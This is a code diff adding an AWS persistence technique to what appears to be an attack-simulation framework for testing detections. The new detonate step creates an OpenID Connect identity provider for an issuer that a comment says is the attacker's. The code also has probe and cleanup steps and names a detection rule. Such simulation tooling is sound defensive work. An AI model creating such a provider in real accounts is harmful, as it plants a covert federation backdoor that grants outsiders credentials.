@@ -13,11 +13,12 @@ from secpillar.gameday.resources import (
     create_user,
     delete_role,
     delete_user,
+    presence,
     role_state,
     trust_policy,
     user_state,
 )
-from secpillar.gameday.technique import OUTSIDE_ACCOUNT, Context, Technique, register
+from secpillar.gameday.technique import OUTSIDE_ACCOUNT, Context, Technique, register, unless_gone
 from secpillar.model import Severity
 
 USER_PERMISSIONS: tuple[str, ...] = (
@@ -217,3 +218,48 @@ class AdminInlinePolicy(_VictimUser):
         ctx.client("iam").put_user_policy(
             UserName=ctx.state["user"], PolicyName="gameday-admin", PolicyDocument=json.dumps(doc)
         )
+
+
+OIDC_THUMBPRINT = "9e99a48a9960b14926bb7f3b02e22da2b0ab7280"
+"""A certificate thumbprint (40 hex digits) for the decoy provider: AWS does not fetch the issuer."""
+
+
+@register
+class BackdoorIdentityProvider(Technique):
+    id = "aws.persistence.iam-create-backdoor-identity-provider"
+    title = "Add an OpenID Connect identity provider the attacker runs"
+    attack = "T1484.002"
+    severity = Severity.MEDIUM
+    description = (
+        "CreateOpenIDConnectProvider for an issuer URL of the attacker's: once a role trusts it, "
+        "that issuer's tokens become credentials in the account, with no user or key to find."
+    )
+    events = ("CreateOpenIDConnectProvider",)
+    detections = ("ct.iam-federation-trust-added",)
+    permissions = (
+        "iam:CreateOpenIDConnectProvider",
+        "iam:GetOpenIDConnectProvider",
+        "iam:DeleteOpenIDConnectProvider",
+    )
+
+    def select(self, ctx: Context) -> None:
+        host = f"{ctx.name('oidc')}.example.com"
+        ctx.state["url"] = f"https://{host}"
+        ctx.state["arn"] = f"arn:{ctx.partition}:iam::{ctx.account_id}:oidc-provider/{host}"
+
+    def probe(self, ctx: Context) -> dict[str, Any]:
+        iam = ctx.client("iam")
+        state = presence(
+            lambda: iam.get_open_id_connect_provider(OpenIDConnectProviderArn=ctx.state["arn"]),
+            "NoSuchEntity",
+        )
+        return {f"OIDC provider {ctx.state['url']}": state}
+
+    def detonate(self, ctx: Context) -> None:
+        ctx.client("iam").create_open_id_connect_provider(
+            Url=ctx.state["url"], ClientIDList=["sts.amazonaws.com"], ThumbprintList=[OIDC_THUMBPRINT]
+        )
+
+    def cleanup(self, ctx: Context) -> None:
+        with unless_gone("NoSuchEntity"):
+            ctx.client("iam").delete_open_id_connect_provider(OpenIDConnectProviderArn=ctx.state["arn"])
